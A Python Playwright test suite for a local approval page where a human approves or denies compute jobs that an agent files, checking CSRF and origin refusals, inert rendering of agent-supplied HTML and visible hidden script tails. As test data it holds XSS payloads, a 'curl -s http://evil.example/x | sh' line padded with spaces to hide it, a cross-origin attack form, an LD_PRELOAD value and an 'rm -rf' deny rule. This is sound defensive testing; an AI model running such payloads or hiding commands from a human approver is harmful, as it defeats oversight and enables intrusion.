"""rsk ui in Chromium: approving in the page changes the ledger; agent text with <script> and onerror shows
as text and nothing runs, also when it arrives by the live refresh; a form without its CSRF token, a post
from another origin (another port of 127.0.0.1, which a browser calls the same site) and a foreign Host are
refused; the cards read at 1280x800 and at 390x844. Screenshots go to $RSK_UI_SHOTS (/tmp/rsk-ui-shots)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from rsk.ledger.cards import find_card
from rsk.ledger.store import Store
from tests.browser.conftest import Served
from tests.ui_cards import XSS, file_card, file_extension
from tests.ui_serve import serving, shot, sign_in

pytestmark = pytest.mark.browser


def test_approving_in_the_page_changes_the_ledger(served: Served, project: str) -> None:
    page = served.page
    page.goto(f"{served.base}/")
    assert page.get_by_text("No card waits.").is_visible()
    card = file_card(project, "c-a11ce0000001", argv=["python", "train.py", "--epochs", "3"])
    article = page.locator(f"#card-{card.id}")
    article.wait_for(timeout=30_000)  # filed while the page was open: it appears without a reload
    page.wait_for_function("document.title === '(1) rsk: Cards'")  # and the tab's title counts it
    served.shot("cards-pending")
    article.locator("input[name=uses]").fill("3")
    article.locator("input[name=note]").fill("looks fine")
    article.get_by_role("button", name="Approve").click()
    page.locator(".notice").wait_for()
    assert f"Approved card {card.id}" in page.locator(".notice").inner_text()
    ledger = Store(project).load()
    assert ledger.cards[0].status == "approved"
    assert [(a.uses_left, a.note, a.plan_hash) for a in ledger.approvals] == [(3, "looks fine", card.plan_hash)]
    assert "via ui" in (ledger.approvals[0].decided_by or "")
    assert "chrom" in (ledger.approvals[0].decided_by or "").split(", from ")[1]  # the browser sent it
    served.shot("cards-approved")


def test_an_extension_card_says_what_its_chain_ran_and_the_total_if_spent_in_full(served: Served, project: str) -> None:
    card = file_extension(project)
    page = served.page
    page.goto(f"{served.base}/")
    article = page.locator(f"#card-{card.id}")
    article.wait_for(timeout=30_000)
    text = article.inner_text()
    assert "3 link(s) ran (of 5 queued), run time 0:02:15, 0.00 GPU-h, 0.07 CPU-h" in text, text
    assert "if this extension is spent in full: 5 links, run time 0:04:15, 0.00 GPU-h, 0.14 CPU-h" in text, text
    served.shot("cards-extension")


def test_denying_in_the_page_tells_the_reason(served: Served, project: str) -> None:
    card = file_card(project, "c-de0000000001")
    page = served.page
    page.goto(f"{served.base}/")
    article = page.locator(f"#card-{card.id}")
    article.locator("input[name=reason]").fill("use the cpu partition")
    article.get_by_role("button", name="Deny").click()
    page.locator(".notice").wait_for()
    c = Store(project).load().cards[0]
    assert (c.status, c.reason) == ("denied", "use the cpu partition")
    page.locator(f"#d-{card.id}").evaluate("e => e.open = true")
    assert "use the cpu partition" in page.locator(f"#d-{card.id}").inner_text()
    served.shot("cards-denied")


def test_agent_html_shows_as_text_and_nothing_runs(served: Served, project: str) -> None:
    page = served.page
    ran: list[str] = []
    page.on("dialog", lambda d: (ran.append(d.message), d.dismiss()))
    page.goto(f"{served.base}/")
    # one card on the first load, one arriving through the live refresh (innerHTML)
    file_card(project, "c-0000000000a1", argv=["sh", "-c", XSS], requester="<img src=x onerror=alert(1)>")
    page.reload()
    file_card(project, "c-0000000000a2", argv=["sh", "-c", XSS], env=["X=</script><script>alert(2)</script>"],
              script='echo "<img src=x onerror=alert(3)>"')  # fmt: skip
    from rsk.ledger.models import CardTask

    key = "</script><img src=x onerror=alert(4)>"
    task = CardTask(key=key, argv=["echo", "<script>alert(5)</script>"], env=[], nodes=1, cpus=1, mem_mb=1, gpus=0,
                    time_min=1)  # fmt: skip
    file_card(project, "c-0000000000a3", tasks=[task])
    page.locator("#card-c-0000000000a2").wait_for(timeout=30_000)
    page.locator("#card-c-0000000000a3").wait_for(timeout=30_000)
    page.wait_for_timeout(300)
    assert page.title().endswith("rsk: Cards") and "pwned" not in page.title() and ran == []
    assert key in page.locator("#card-c-0000000000a3 table.tasks").inner_text()
    assert page.locator("main img, main script").count() == 0
    text = page.locator("#card-c-0000000000a2").inner_text()
    assert "<script>document.title" in text and "<img src=x onerror=" in text and "</script><script>alert(2)" in text
    assert "<img src=x onerror=alert(1)>" in page.locator("#card-c-0000000000a1").inner_text()
    served.shot("cards-agent-html-inert")


def test_a_script_line_cannot_hide_its_tail_from_the_human(served: Served, project: str) -> None:
    page = served.page
    line = 'echo "training epoch 1..."' + " " * 400 + "; curl -s http://evil.example/x | sh"
    file_card(project, "c-0000000000b1", argv=["sh", "job.sh"], script=f"#!/bin/sh\n{line}\necho done")
    page.goto(f"{served.base}/")
    box = page.locator("#card-c-0000000000b1 pre.script")
    box.wait_for()
    assert "⟨400 spaces⟩; curl -s http://evil.example/x | sh" in box.inner_text()
    # nothing of a line sits out of sight to the right of the box
    assert box.evaluate("e => e.scrollWidth <= e.clientWidth")
    served.shot("cards-padded-script")
    # nor below it: no-break spaces (which wrap where spaces hang) are counted too, and a script box never scrolls
    nbsp = 'echo "training epoch 1..."' + "\u00a0" * 8000 + "; curl -s http://evil.example/x | sh"
    file_card(project, "c-0000000000b2", argv=["sh", "job.sh"], script=f"#!/bin/sh\n{nbsp}\necho done",
              plan_hash="b2" * 32)  # fmt: skip
    page.goto(f"{served.base}/")
    box = page.locator("#card-c-0000000000b2 pre.script")
    box.wait_for()
    assert "⟨8000 blank, invisible or control characters⟩; curl -s http://evil.example/x | sh" in box.inner_text()
    tall = "#!/bin/sh\n" + "\n".join(f"echo step {i}" for i in range(300)) + "\ncurl -s http://evil.example/x | sh"
    file_card(project, "c-0000000000b3", argv=["sh", "job.sh"], script=tall, plan_hash="b3" * 32)
    page.goto(f"{served.base}/")
    box = page.locator("#card-c-0000000000b3 pre.script")
    box.wait_for()
    assert box.evaluate("e => e.scrollHeight <= e.clientHeight && e.scrollWidth <= e.clientWidth")


def test_a_post_without_the_csrf_token_or_from_another_origin_is_refused(
    served: Served, project: str, other_site: tuple[str, Path]
) -> None:
    card = file_card(project, "c-c5af00000001")
    page = served.page
    page.goto(f"{served.base}/")
    # the page's own form with its token taken out
    page.locator(f"#card-{card.id} form.approve input[name=csrf]").evaluate("e => e.remove()")
    with page.expect_response(f"**/cards/{card.id}/approve") as answer:
        page.locator(f"#card-{card.id}").get_by_role("button", name="Approve").click()
    assert answer.value.status == 403
    assert "CSRF" in page.content()
    served.shot("refused-without-csrf")
    # another page on 127.0.0.1 (another port: the cookie goes along, SameSite counts no ports) posts the form,
    # even with the right token (as if it had leaked): its Origin is refused
    csrf = served.page.context.request.get(f"{served.base}/").text().split('name="csrf" value="')[1].split('"')[0]
    other, root = other_site
    (root / "attack.html").write_text(
        f'<form method="post" action="{served.base}/cards/{card.id}/approve">'
        f'<input name="csrf" value="{csrf}"><input name="project" value="{project}">'
        f'<input name="plan_hash" value="{card.plan_hash}"><button>go</button></form>'
    )
    page.goto(f"{other}/attack.html")
    with page.expect_response(f"**/cards/{card.id}/approve") as answer:
        page.get_by_role("button", name="go").click()
    assert answer.value.status == 403
    # a name that resolves to 127.0.0.1 (DNS rebinding): the page refuses its Host
    served.shot("refused-from-another-origin")
    assert page.goto(f"http://evil.test:{served.port}/").status == 421
    served.shot("refused-foreign-host")
    assert Store(project).load().cards[0].status == "pending" and Store(project).load().approvals == []


def test_the_cards_read_on_a_laptop_and_a_phone(served: Served, project: str) -> None:
    from rsk.ledger.models import CardTask

    argv = ["python", "train.py", "--config", "configs/" + "x" * 60]
    tasks = [CardTask(key=f"seed-{i}", argv=[*argv, f"--seed={i}"], env=[f"SEED={i}"], nodes=1, cpus=2, mem_mb=1000,
                      gpus=1, time_min=30) for i in range(4)]  # fmt: skip
    card = file_card(project, "c-b0a4d0000001", argv=["python", "train.py"], tasks=tasks,
                     env=["WANDB_MODE=offline", "LONG=" + "y" * 200])  # fmt: skip
    page = served.page
    for name, size in (("laptop", {"width": 1280, "height": 800}), ("phone", {"width": 390, "height": 844})):
        page.set_viewport_size(size)
        page.goto(f"{served.base}/")
        wide = page.evaluate("document.documentElement.scrollWidth")
        assert wide <= size["width"], f"{name}: the page scrolls sideways ({wide} px)"
        button = page.locator(f"#card-{card.id}").get_by_role("button", name="Approve")
        button.scroll_into_view_if_needed()
        box = button.bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= size["width"]
        assert box["height"] >= 32  # a finger can hit it
        served.shot(f"cards-{name}")
    from rsk.ledger.grants import add_grant, add_rule
    from rsk.ledger.models import DenyRule, Grant

    add_grant(Store(project), Grant(targets=["lab"], gpu_hours=10, jobs=20, max_gpus=4, note="the seed sweep"))
    add_rule(Store(project), DenyRule(reason="no rm -rf", command="*rm -rf*"), "me")
    for name, size in (("phone", {"width": 390, "height": 844}), ("laptop", {"width": 1280, "height": 800})):
        page.set_viewport_size(size)
        for path in ("budgets", "board", "gpus"):
            page.goto(f"{served.base}/{path}")
            assert page.locator("h1").inner_text().lower() == path
            wide = page.evaluate("document.documentElement.scrollWidth")
            assert wide <= size["width"], f"{path} on a {name}: the page scrolls sideways ({wide} px)"
            served.shot(f"{path}-{name}")


def test_the_browser_opened_on_the_launch_file_is_signed_in(served: Served, project: str) -> None:
    """`rsk ui` starts the browser on a 0600 file, never on the link: the file's redirect signs it in."""
    from rsk.ui.server import launch_file, write_launch_file

    file_card(project, "c-f11e00000001")
    with serving() as fresh:
        path = write_launch_file(fresh.ui.guard)
        page = served.page.context.browser.new_context().new_page()
        page.goto(path.as_uri())
        page.wait_for_url(f"{fresh.base}/", timeout=30_000)
        assert page.locator("#card-c-f11e00000001").is_visible()
        assert not launch_file(fresh.port).exists()  # spent
        shot(page, "signed-in-from-the-launch-file")
        page.context.close()


def test_a_link_from_another_site_opens_the_card_signed_in(
    served: Served, project: str, other_site: tuple[str, Path]
) -> None:
    """The notification's address clicked in a web chat: a cross-site navigation, which leaves the
    SameSite=Strict cookie out; the page opens itself again from its own site, and the card shows."""
    card = file_card(project, "c-11c000000001")
    other, root = other_site
    (root / "chat.html").write_text(f'<a href="{served.base}/#card-{card.id}">your card</a>')
    page = served.page
    page.goto(other.replace("127.0.0.1", "evil.test") + "/chat.html")  # another site (resolved to 127.0.0.1)
    page.get_by_role("link", name="your card").click()
    page.wait_for_url(f"{served.base}/#card-{card.id}", timeout=30_000)  # the fragment kept (ui.js sets it back)
    page.locator(f"#card-{card.id}").wait_for(timeout=30_000)
    assert page.title() == "(1) rsk: Cards"
    served.shot("opened-from-another-site")


def test_read_only_shows_the_cards_and_refuses_an_act_even_with_the_sessions_token(
    served: Served, project: str
) -> None:
    """A wall screen: every card, no form; a POST from the page itself with its session's own CSRF token is
    refused as well, and nothing is decided."""
    card = file_card(project, "c-4ead00000001", argv=["python", "train.py"])
    with serving(read_only=True) as wall:
        page = sign_in(served.page.context.browser, wall)
        page.locator(f"#card-{card.id}").wait_for()
        assert "Read-only" in page.locator(".readonly").inner_text()
        assert page.locator("form, button").count() == 0
        assert "python" in page.locator(f"#card-{card.id}").inner_text()
        shot(page, "cards-read-only")
        (session,) = wall.ui.guard.sessions.values()
        form = {"csrf": session.csrf, "project": project, "plan_hash": card.plan_hash, "uses": "1"}
        status = page.evaluate(
            "async ([url, form]) => (await fetch(url, {method: 'POST', body: new URLSearchParams(form)})).status",
            [f"{wall.base}/cards/{card.id}/approve", form],
        )
        assert status == 403
        for path in ("budgets", "board", "gpus"):
            page.goto(f"{wall.base}/{path}")
            assert page.locator("h1").inner_text().lower() == path and page.locator("form, button").count() == 0
        page.context.close()
    ledger = Store(project).load()
    assert ledger.cards[0].status == "pending" and ledger.approvals == []


def test_dark_or_light_follows_the_systems_setting(served: Served, project: str) -> None:
    file_card(project, "c-da4c00000001", argv=["python", "train.py"])
    browser = served.page.context.browser
    seen = {}
    for scheme in ("light", "dark"):
        context = browser.new_context(color_scheme=scheme, viewport={"width": 1280, "height": 800})
        context.add_cookies(served.page.context.cookies())  # the same session
        page = context.new_page()
        page.goto(f"{served.base}/")
        page.locator("#card-c-da4c00000001").wait_for()
        seen[scheme] = page.evaluate("getComputedStyle(document.body).backgroundColor")
        shot(page, f"cards-{scheme}")
        context.close()
    assert seen == {"light": "rgb(255, 255, 255)", "dark": "rgb(15, 19, 23)"}


def paused(page: Any) -> None:
    """The page's clock, stopped: it moves only when the test runs it (Playwright's clock), so what the page
    does every 2 s or after 1.5 s is tested with no sleep and no timing."""
    start = datetime(2026, 1, 1, 8, 0, tzinfo=UTC)
    page.clock.install(time=start)
    page.clock.pause_at(start + timedelta(seconds=1))


def done(page: Any) -> None:
    """A round trip through the page's network and main thread: what it did with an answer it had is done."""
    page.evaluate("() => fetch('/static/icon.svg', {cache: 'no-store'}).then(r => r.status)")


def test_the_live_part_is_asked_at_most_every_2_s_and_not_while_the_tab_is_hidden(served: Served, project: str) -> None:
    """The page's own clock, driven by the test (Playwright's clock): no sleeps, no timing."""
    context = served.page.context.browser.new_context(viewport={"width": 1280, "height": 800})
    context.add_cookies(served.page.context.cookies())
    page = context.new_page()
    paused(page)
    # when (on the page's clock) the page asked for its live part: recorded as it calls fetch
    page.add_init_script("""(() => { const f = window.fetch; window.rskAsked = [];
        window.fetch = function (url, opts) { if (String(url).includes('part=1')) window.rskAsked.push(Date.now());
                                             return f.call(this, url, opts); }; })()""")
    page.goto(f"{served.base}/board")
    loaded = page.evaluate("Date.now()")

    def hidden(value: bool) -> None:
        page.evaluate("h => { Object.defineProperty(document, 'hidden', {value: h, configurable: true});"
                      " document.dispatchEvent(new Event('visibilitychange')); }", value)  # fmt: skip

    def run(ms: int) -> list[int]:
        for _ in range(ms // 100):  # in small steps, each answered before the clock moves on
            page.clock.run_for(100)
            done(page)
        return [t - loaded for t in page.evaluate("window.rskAsked")]

    asked = run(9000)
    assert asked[0] >= 2000 and len(asked) >= 3  # not at once, and on and on
    assert all(b - a >= 2000 for a, b in pairwise(asked))  # never more often than 2 s
    hidden(True)
    before = len(run(0))
    page.clock.run_for(60_000)  # a minute in a hidden tab: nothing asked
    assert len(run(100)) == before
    with page.expect_response("**/board?part=1"):  # shown again: asked at once
        hidden(False)
    shot(page, "board-live")
    context.close()


def test_a_card_withdrawn_above_does_not_move_another_cards_approve_under_the_pointer(
    served: Served, project: str
) -> None:
    """The agent withdraws the card above the one the human reads, the mouse resting on its Approve: the
    cards below must not move up under it (the click would approve the next card). They wait until the pointer
    leaves; and after they change, Approve does nothing for a moment (SETTLE_MS), so a click aimed at what was
    there is not one at what came. On the page's clock, driven by the test."""
    from rsk.ledger.cards import withdraw

    x = file_card(project, "c-000000000a01", argv=["sh", "-c", "echo x"])
    a = file_card(project, "c-000000000a02", argv=["sh", "-c", "echo a"])
    b = file_card(project, "c-000000000a03", argv=["sh", "-c", "echo b"])
    context = served.page.context.browser.new_context(viewport={"width": 1280, "height": 800})
    context.add_cookies(served.page.context.cookies())
    page = context.new_page()
    paused(page)
    page.goto(f"{served.base}/")
    page.clock.run_for(1600)  # the settle time after the load: the buttons work; the first ask is not due
    approve_a = page.locator(f"#card-{a.id}").get_by_role("button", name="Approve")
    approve_a.scroll_into_view_if_needed()
    box = approve_a.bounding_box()
    assert box is not None and approve_a.is_enabled()
    x_at, y_at = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    page.mouse.move(x_at, y_at)  # the human read card A; the pointer rests on its Approve
    withdraw(Store(project), x.id, "agent")
    with page.expect_response("**/?part=1"):  # the page asked, and the answer has card X gone
        page.clock.run_for(2000)
    page.locator(f"body.held, body:not(:has(#card-{x.id}.pending))").wait_for()  # held, or moved
    assert page.locator(f"#card-{x.id}.pending").count() == 1  # held: nothing moved
    shot(page, "cards-held-under-the-pointer")
    page.mouse.click(x_at, y_at)
    page.locator(".notice").wait_for()
    ledger = Store(project).load()
    assert {c.id: c.status for c in ledger.cards} == {a.id: "approved", b.id: "pending"}  # x: archived at once
    assert find_card(ledger, x.id, Store(project).archive).status == "withdrawn"
    # the pointer away, the cards change (a new one comes): for a moment a click at once on them does nothing
    page.mouse.move(0, 0)
    page.locator("body.settling").wait_for(state="attached")  # the page the approval opened runs its script
    page.clock.run_for(1600)  # and has settled
    z = file_card(project, "c-000000000a04", argv=["sh", "-c", "echo z"])
    with page.expect_response("**/?part=1"):
        page.clock.run_for(2000)
    approve_z = page.locator(f"#card-{z.id}").get_by_role("button", name="Approve")
    approve_z.wait_for()
    assert approve_z.is_disabled()
    box = approve_z.bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.evaluate("1")
    assert Store(project).load().cards[-1].status == "pending"
    page.clock.run_for(1500)
    assert approve_z.is_enabled()
    context.close()


def test_a_card_withdrawn_while_the_pointer_is_away_moves_nothing_until_the_human_asks(
    served: Served, project: str
) -> None:
    """The agent withdraws the card above while the human's pointer is off the cards; it comes back to the same
    spot and clicks: the card it read is approved, not the one that would have moved there. The card that left
    is greyed in place until the human asks for the new list. On the page's clock, driven by the test."""
    from rsk.ledger.cards import withdraw

    x = file_card(project, "c-000000000c01", argv=["sh", "-c", "echo x"])
    a = file_card(project, "c-000000000c02", argv=["sh", "-c", "echo a"])
    b = file_card(project, "c-000000000c03", argv=["sh", "-c", "echo b"])
    context = served.page.context.browser.new_context(viewport={"width": 1280, "height": 800})
    context.add_cookies(served.page.context.cookies())
    page = context.new_page()
    paused(page)
    page.goto(f"{served.base}/")
    page.clock.run_for(1600)
    approve_a = page.locator(f"#card-{a.id}").get_by_role("button", name="Approve")
    approve_a.scroll_into_view_if_needed()
    box = approve_a.bounding_box()
    assert box is not None
    x_at, y_at = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    page.mouse.move(x_at, y_at)
    withdraw(Store(project), x.id, "agent")
    page.mouse.move(10, 10)  # off the cards, to the navigation
    with page.expect_response("**/?part=1"):
        page.clock.run_for(2000)
    page.locator(f"#card-{x.id}.gone").wait_for()
    with page.expect_response("**/?part=1"):  # another refresh, and the settle time after it: still held
        page.clock.run_for(2000)
    done(page)
    page.clock.run_for(1600)
    assert page.locator("#changed").is_visible()
    assert page.locator(f"#card-{x.id}").get_by_role("button", name="Approve").is_disabled()
    assert approve_a.bounding_box() == box  # nothing moved
    shot(page, "cards-one-left-nothing-moved")
    page.mouse.click(x_at, y_at)  # back to the same spot
    page.locator(".notice").wait_for()
    ledger = Store(project).load()
    assert {c.id: c.status for c in ledger.cards} == {a.id: "approved", b.id: "pending"}  # x: archived at once
    assert find_card(ledger, x.id, Store(project).archive).status == "withdrawn"
    # asked for, the new list shows: the card that left is gone from the waiting ones
    page.locator("body.settling").wait_for(state="attached")  # the page the approval opened runs its script
    withdraw(Store(project), b.id, "agent")
    with page.expect_response("**/?part=1"):
        page.clock.run_for(2000)
    page.locator(f"#card-{b.id}.gone").wait_for()
    page.get_by_role("button", name="Show the cards now").click()
    assert page.locator("article.card.pending").count() == 0 and page.locator("#changed").is_hidden()
    context.close()


def test_a_card_of_ten_thousand_tasks_shows_the_odd_one_and_every_task_a_page_at_a_time(
    served: Served, project: str
) -> None:
    """The card lists the first 100 tasks; its distinct commands (digits folded) show the one at task 5,000 that
    runs something else, as text; the link opens every task, 200 a page, also as text, and nothing runs."""
    from tests.ui_cards import file_sweep

    page = served.page
    ran: list[str] = []
    page.on("dialog", lambda d: (ran.append(d.message), d.dismiss()))
    card = file_sweep(project, odd=["sh", "-c", XSS])
    page.goto(f"{served.base}/")
    article = page.locator(f"#card-{card.id}")
    article.wait_for(timeout=30_000)
    facts = article.locator("dl.facts").inner_text()
    assert "2 distinct commands (digits as #) in 10000 tasks" in facts, facts
    assert "9999 x python train.py --seed=#" in facts and "1 x sh -c '<script>document.title=" in facts, facts
    assert "1 x LD_PRELOAD=/tmp/.x.so" in facts and "10000 x SEED=#" in facts, facts
    served.shot("cards-sweep-kinds")
    article.get_by_role("link", name="Every task, 200 a page").click()
    page.wait_for_url("**/tasks?**")
    assert "tasks 1-200 of 10000 (page 1 of 50)" in page.locator("main").inner_text()
    assert page.locator("table.tasks tr").count() == 201  # a head and 200 tasks
    page.goto(page.url + "&page=26")
    page.get_by_role("link", name="Next").first.click()
    page.get_by_role("link", name="Previous").first.click()
    page.wait_for_url("**page=26")
    text = page.locator("table.tasks").inner_text()
    assert "t05000" in text and "<script>document.title=" in text and "t05199" in text and "t05200" not in text, text
    assert page.locator("main img, main script").count() == 0 and ran == [] and "pwned" not in page.title()
    served.shot("tasks-page-26")
    path = Store(project).dir / "cards" / f"{card.tasks_file}.json"  # changed beside the ledger: refused, not shown
    path.write_bytes(path.read_bytes().replace(b"SEED=5199", b"SEED=5198"))
    page.reload()
    assert "does not hold the tasks card" in page.locator("main").inner_text()
    assert page.locator("table.tasks").count() == 0
